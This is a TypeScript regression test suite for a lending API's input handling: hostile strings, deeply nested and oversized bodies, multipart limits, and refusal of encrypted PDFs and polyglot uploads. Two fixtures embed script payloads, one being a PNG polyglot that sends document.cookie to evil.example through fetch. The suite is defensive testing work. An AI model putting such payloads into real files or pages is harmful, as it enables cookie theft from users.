/**
 * The security test's crashes and limits, one regression test per finding: hostile strings, deep
 * JSON, malformed and chunked bodies, multipart without a boundary or with too many or too large
 * files, polyglot and password-protected uploads, a UTF-8 file name, unknown sandbox ids. Every
 * answer is a 4xx with `{ errors: [...] }`; limits are proven by how much of the body was read.
 */
import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import type { AddressInfo } from 'node:net';
import { serve } from '@hono/node-server';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  APP,
  form,
  OPERATOR,
  PDF,
  PNG,
  registerBorrower,
  startSandbox,
  type Borrower,
  type Sandbox,
} from '../testing/harness.js';

let sb: Sandbox;
let b: Borrower;

const BAD = 'Must not contain control characters or invalid Unicode';
const CONDITIONS = (uuid: string) => `/service-conditions/external/api/v1/applications/${uuid}/conditions`;

beforeAll(async () => {
  sb = await startSandbox();
  b = await registerBorrower(sb, {});
});
afterAll(async () => {
  await sb.close();
});

/** Sends a raw JSON text (not via JSON.stringify, which would make lone surrogates well-formed escapes anyway). */
async function rawJson(method: string, path: string, body: RequestInit['body'], token?: string) {
  const res = await sb.app.request(path, {
    method,
    headers: { 'content-type': 'application/json', ...(token ? { authorization: `Bearer ${token}` } : {}) },
    body,
    duplex: 'half',
  } as RequestInit);
  const type = res.headers.get('content-type') ?? '';
  const text = await res.text();
  return { status: res.status, type, body: type.includes('json') ? (JSON.parse(text) as { errors: string[] }) : text };
}

/** A body produced on demand, counting how many bytes the server actually pulled from it. */
function lazyBody(chunks: () => Generator<Uint8Array>) {
  const counter = { pulled: 0 };
  const it = chunks();
  const stream = new ReadableStream<Uint8Array>({
    pull(controller) {
      const next = it.next();
      if (next.done) controller.close();
      else {
        counter.pulled += next.value.byteLength;
        controller.enqueue(next.value);
      }
    },
  });
  return { stream, counter };
}

const MB = 1024 * 1024;

async function newCondition(owner: Borrower) {
  const r = await sb.call('POST', `/sandbox/applications/${owner.uuid}/conditions`, {
    body: { categoryEnum: 'GENERIC_DOCUMENT_REQUEST' },
    headers: OPERATOR,
  });
  // One condition of a kind per person (pipeline/conditions.ts): a later call gives the one there is (200).
  expect([200, 201]).toContain(r.status);
  return r.body.uuid as string;
}

const upload = async (owner: Borrower, conditionUuid: string, files: { name: string; blob: Blob }[]) =>
  sb.call('POST', `${CONDITIONS(owner.uuid)}/${conditionUuid}/documents`, {
    token: owner.token,
    form: form({}, files),
  });

const createBody = (over: Record<string, unknown> = {}) => ({
  property: { street1: '12 Oak Street', city: 'San Mateo', state: 'CA', zip: '94401' },
  saleStatus: 'NOT_SELLING',
  income: { annualIncome: 150_000, employmentType: 'FULL_TIME' },
  name: { firstName: 'Ann', lastName: 'Lee' },
  birthdate: '1980-04-02',
  contact: { email: 'ann@example.com', phone: '415-555-0100' },
  ...over,
});

describe('finding 5: hostile strings answer 400, never 500', () => {
  // JSON.stringify keeps NUL as \u0000 and (since ES2019) a lone surrogate as \ud800: both reach the server as written.
  const cases: [string, string, string, () => Record<string, unknown>, string, boolean][] = [
    [
      'application create, NUL',
      'POST',
      APP,
      () => createBody({ name: { firstName: 'Ann\u0000', lastName: 'Lee' } }),
      'name.firstName',
      true,
    ],
    [
      'application create, lone surrogate',
      'POST',
      APP,
      () => createBody({ property: { street1: '12 Oak \ud800Street', city: 'San Mateo', state: 'CA', zip: '94401' } }),
      'property.street1',
      true,
    ],
    [
      'CEO feedback, NUL',
      'POST',
      '/service-profile/api/v1/feedback/ceo',
      () => ({
        topic: 'Give us a compliment',
        message: 'Lovely service \u0000 thank you',
        marketingConsent: false,
        pathname: '/x',
        productType: 'HELOC',
      }),
      'message',
      true,
    ],
    [
      'CEO feedback, lone surrogate',
      'POST',
      '/service-profile/api/v1/feedback/ceo',
      () => ({
        topic: 'Give us a compliment',
        message: 'Lovely service thank you',
        marketingConsent: false,
        pathname: '/x\udc00',
        productType: 'HELOC',
      }),
      'pathname',
      true,
    ],
    [
      'telemetry event, NUL in a property',
      'POST',
      '/ft/external/event',
      () => ({ event: 'page-view', eventProperties: { note: 'a\u0000b' } }),
      'eventProperties.note',
      false,
    ],
    [
      'telemetry event, NUL in a key',
      'POST',
      '/ft/external/event',
      () => ({ event: 'page-view', eventProperties: { 'k\u0000': 1 } }),
      'eventProperties',
      false,
    ],
    [
      'telemetry session, lone surrogate',
      'POST',
      '/ft/external/session',
      () => ({ platform: 'WEB', referrer: '\udbff' }),
      'referrer',
      false,
    ],
  ];
  it.each(cases)('%s', async (_name, method, path, body, field, signedIn) => {
    const before = await sb.deps.db.query.telemetry.findMany();
    const r = await sb.call(method, path, { token: signedIn ? b.token : undefined, body: body() });
    expect(r.status).toBe(400);
    expect(r.body).toEqual({ errors: [`${field}: ${BAD}`] });
    expect(await sb.deps.db.query.telemetry.findMany()).toHaveLength(before.length);
  });

  it('a NUL in a query value answers 400', async () => {
    const r = await sb.call('GET', '/service-application/external/api/v1/heloc/state-licenses?orgCode=home%00stead');
    expect(r).toMatchObject({ status: 400, body: { errors: [`orgCode: ${BAD}`] } });
  });

  it('regression (fuzz seed 20261122): an empty session key gets a real one', async () => {
    const r = await sb.call('POST', '/ft/external/session', { body: { platform: 'WEB', sessionKey: '' } });
    expect(r.status).toBe(200);
    expect(r.body.sessionKey).toMatch(/^[0-9a-f-]{36}\.\d+$/);
  });

  it('tabs, new lines and emoji are text, not refused', async () => {
    const r = await sb.call('POST', '/ft/external/event', {
      body: { event: 'note', eventProperties: { text: 'line one\n\tline two 😀 é' } },
    });
    expect(r.status).toBe(202);
  });

  it('JSON nested 10,000 deep answers 400', async () => {
    const deep = `{"event":"x","eventProperties":{"a":${'['.repeat(10_000)}${']'.repeat(10_000)}}}`;
    const r = await rawJson('POST', '/ft/external/event', deep);
    expect(r.status).toBe(400);
    expect(r.body).toEqual({ errors: ['The request body is nested more than 32 levels deep.'] });
  });

  it('a multipart body with no boundary answers 400', async () => {
    const condition = await newCondition(b);
    const res = await sb.app.request(`${CONDITIONS(b.uuid)}/${condition}/documents`, {
      method: 'POST',
      headers: { authorization: `Bearer ${b.token}`, 'content-type': 'multipart/form-data' },
      body: 'file=abc',
    });
    expect(res.status).toBe(400);
    expect(await res.json()).toEqual({ errors: [expect.stringMatching(/boundary/)] });
  });

  it('a file named résumé😀.pdf uploads and downloads with its name (RFC 6266)', async () => {
    const condition = await newCondition(b);
    const up = await upload(b, condition, [{ name: 'résumé😀.pdf', blob: PDF() }]);
    expect(up.status).toBe(201);
    expect(up.body.uploaded).toEqual([expect.objectContaining({ name: 'résumé😀.pdf' })]);
    const docs = await sb.call('GET', `${APP}/${b.uuid}/documents`, { token: b.token });
    const doc = docs.body.find((d: { name: string }) => d.name === 'résumé😀.pdf');
    const res = await sb.app.request(`${APP}/${b.uuid}/documents/${doc.uuid}`, {
      headers: { authorization: `Bearer ${b.token}` },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toBe(
      `attachment; filename="resume.pdf"; filename*=UTF-8''r%C3%A9sum%C3%A9%F0%9F%98%80.pdf`,
    );
    expect(
      Buffer.from(await res.arrayBuffer())
        .subarray(0, 5)
        .toString(),
    ).toBe('%PDF-');
  });

  it('sandbox calls for an unknown uuid answer 404', async () => {
    const conditions = await sb.call('POST', `/sandbox/applications/${randomUUID()}/conditions`, {
      body: { categoryEnum: 'GENERIC_DOCUMENT_REQUEST' },
      headers: OPERATOR,
    });
    expect(conditions).toMatchObject({ status: 404, body: { errors: [expect.any(String)] } });
    const notifications = await sb.call('POST', `/sandbox/users/${randomUUID()}/notifications`, {
      body: { title: 'Hello' },
      headers: OPERATOR,
    });
    expect(notifications).toMatchObject({ status: 404, body: { errors: [expect.any(String)] } });
    const state = await sb.call('PUT', `/sandbox/applications/${randomUUID()}/state`, {
      body: { state: 'HMDA' },
      headers: OPERATOR,
    });
    expect(state).toMatchObject({ status: 404, body: { errors: [expect.any(String)] } });
  });
});

describe('finding 6: malformed or empty JSON answers JSON errors', () => {
  it.each([
    ['malformed', '{"property":'],
    ['empty', ''],
    ['not UTF-8', new Uint8Array([0x7b, 0x22, 0xff, 0x22, 0x3a, 0x31, 0x7d])],
  ])('%s JSON → 400 application/json { errors }', async (_name, body) => {
    const r = await rawJson('POST', APP, body, b.token);
    expect(r.status).toBe(400);
    expect(r.type).toMatch(/^application\/json/);
    expect(r.body).toEqual({ errors: ['The request body is not valid JSON.'] });
  });
});

describe('finding 7: body limits hold on the stream, chunked or not', () => {
  it('a 90 MB chunked JSON body is cut off at 1 MB and nothing is stored', async () => {
    const before = await sb.deps.db.query.telemetry.findMany();
    const { stream, counter } = lazyBody(function* () {
      yield Buffer.from('{"event":"x","eventProperties":{"pad":"');
      for (let i = 0; i < 90 * 16; i++) yield Buffer.alloc(64 * 1024, 0x61);
      yield Buffer.from('"}}');
    });
    const r = await rawJson('POST', '/ft/external/event', stream);
    expect(r).toMatchObject({ status: 413, body: { errors: ['The request is too large.'] } });
    // Read until the limit was passed, then stopped: not the 90 MB.
    expect(counter.pulled).toBeLessThan(2 * MB);
    expect(await sb.deps.db.query.telemetry.findMany()).toHaveLength(before.length);
  });

  it('over real HTTP with Transfer-Encoding: chunked, the server answers 413 after about 1 MB', async () => {
    const server = serve({ fetch: sb.app.fetch, port: 0, hostname: '127.0.0.1' });
    await new Promise((resolve) => server.once('listening', resolve));
    try {
      const { port } = server.address() as AddressInfo;
      let sent = 0;
      let answered = false;
      const status = await new Promise<{ code: number; body: string }>((resolve, reject) => {
        const req = httpRequest(
          {
            host: '127.0.0.1',
            port,
            method: 'POST',
            path: '/ft/external/event',
            headers: { 'content-type': 'application/json', 'transfer-encoding': 'chunked' },
          },
          (res) => {
            let body = '';
            res.on('data', (d: Buffer) => (body += d.toString()));
            res.on('end', () => {
              resolve({ code: res.statusCode ?? 0, body });
              req.destroy();
            });
          },
        );
        req.on('error', (e) => (sent > MB ? undefined : reject(e)));
        req.write('{"event":"x","eventProperties":{"pad":"');
        const chunk = Buffer.alloc(64 * 1024, 0x61);
        // Up to 90 MB, but only while the server keeps reading; it answers long before.
        const pump = () => {
          while (sent < 90 * MB && !answered) {
            sent += chunk.length;
            if (!req.write(chunk)) return void req.once('drain', pump);
          }
          if (!answered) req.end('"}}');
        };
        req.on('response', () => (answered = true));
        // Should the server drop the connection without answering, fail plainly instead of waiting for the timeout.
        req.on('close', () => (answered ? undefined : resolve({ code: 0, body: '{}' })));
        pump();
      });
      expect(status.code).toBe(413);
      expect(JSON.parse(status.body)).toEqual({ errors: ['The request is too large.'] });
      expect(sent).toBeLessThan(90 * MB);
    } finally {
      server.close();
    }
  });

  /** A multipart body of `count` files of `size` bytes each, built only as fast as it is read. */
  function multipart(count: number, size: number) {
    const boundary = `----fuzz${randomUUID()}`;
    const body = lazyBody(function* () {
      for (let i = 0; i < count; i++) {
        yield Buffer.from(
          `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="f${i}.pdf"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7\n`,
        );
        for (let sent = 9; sent < size; sent += 64 * 1024) yield Buffer.alloc(Math.min(64 * 1024, size - sent), 0x20);
        yield Buffer.from('\r\n');
      }
      yield Buffer.from(`--${boundary}--\r\n`);
    });
    return { ...body, type: `multipart/form-data; boundary=${boundary}` };
  }

  it('50 files of 1.9 MB: the 11th file stops the reading with "at most 10"', async () => {
    const condition = await newCondition(b);
    const { stream, counter, type } = multipart(50, 1.9 * MB);
    const res = await sb.app.request(`${CONDITIONS(b.uuid)}/${condition}/documents`, {
      method: 'POST',
      headers: { authorization: `Bearer ${b.token}`, 'content-type': type },
      body: stream,
      duplex: 'half',
    } as RequestInit);
    expect(res.status).toBe(400);
    expect(await res.json()).toEqual({ errors: ['Upload at most 10 files.'] });
    // Ten files and the start of the eleventh were read; the other 39 never were.
    expect(counter.pulled).toBeLessThan(12 * 1.9 * MB);
  });

  it('a file over the size limit stops the reading with 413', async () => {
    const condition = await newCondition(b);
    const { stream, counter, type } = multipart(1, 60 * MB);
    const res = await sb.app.request(`${CONDITIONS(b.uuid)}/${condition}/documents`, {
      method: 'POST',
      headers: { authorization: `Bearer ${b.token}`, 'content-type': type },
      body: stream,
      duplex: 'half',
    } as RequestInit);
    expect(res.status).toBe(413);
    expect(await res.json()).toEqual({
      errors: ['f0.pdf is larger than 10 MB. Scan it at a lower resolution or split it, then upload it again.'],
    });
    expect(counter.pulled).toBeLessThan(12 * MB);
  });
});

describe('finding 13: password-protected PDFs and polyglots are refused', () => {
  it('an encrypted PDF is refused with how to fix it', async () => {
    const condition = await newCondition(b);
    const encrypted = new Blob([readFileSync(new URL('../testing/fixtures/encrypted.pdf', import.meta.url))], {
      type: 'application/pdf',
    });
    const r = await upload(b, condition, [{ name: 'paystub.pdf', blob: encrypted }]);
    expect(r).toMatchObject({
      status: 400,
      body: {
        errors: [
          'This PDF is protected with a password. Open it, print it to a new PDF without a password, and upload that file.',
        ],
      },
    });
  });

  it('an HTML/PDF polyglot is refused', async () => {
    const condition = await newCondition(b);
    const polyglot = new Blob(
      [
        '%PDF-1.7\n<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n',
      ],
      { type: 'application/pdf' },
    );
    const r = await upload(b, condition, [{ name: 'statement.pdf', blob: polyglot }]);
    expect(r).toMatchObject({
      status: 415,
      body: {
        errors: [
          'statement.pdf contains web page or script code, so it cannot be accepted. Upload a plain scan or photo as a PDF, JPG or PNG file.',
        ],
      },
    });
  });

  it('a PNG/script polyglot is refused', async () => {
    const condition = await newCondition(b);
    const png = Buffer.from(await PNG().arrayBuffer());
    // The script rides in bytes after the image's end, where image viewers never look.
    const polyglot = new Blob(
      [Buffer.concat([png, Buffer.from('<script>fetch("//evil.example/"+document.cookie)</script>')])],
      { type: 'image/png' },
    );
    const r = await upload(b, condition, [{ name: 'photo.png', blob: polyglot }]);
    expect(r.status).toBe(415);
    expect(r.body.errors[0]).toMatch(/web page or script/);
  });

  it('a file whose name says another type than its bytes is refused; matching ones are kept', async () => {
    const condition = await newCondition(b);
    const misnamed = await upload(b, condition, [{ name: 'page.html', blob: new Blob([await PNG().arrayBuffer()]) }]);
    expect(misnamed).toMatchObject({
      status: 415,
      body: {
        errors: [
          'page.html is a PNG file but is named or labelled as something else. Upload it with a name ending in .png.',
        ],
      },
    });
    const ok = await upload(b, condition, [
      { name: 'scan.PDF', blob: PDF() },
      { name: 'photo.png', blob: PNG() },
    ]);
    expect(ok.status).toBe(201);
  });
});

describe('server errors stay at zero', () => {
  it('none of the above was logged as an unhandled error', () => {
    expect(sb.errors).toEqual([]);
  });
});
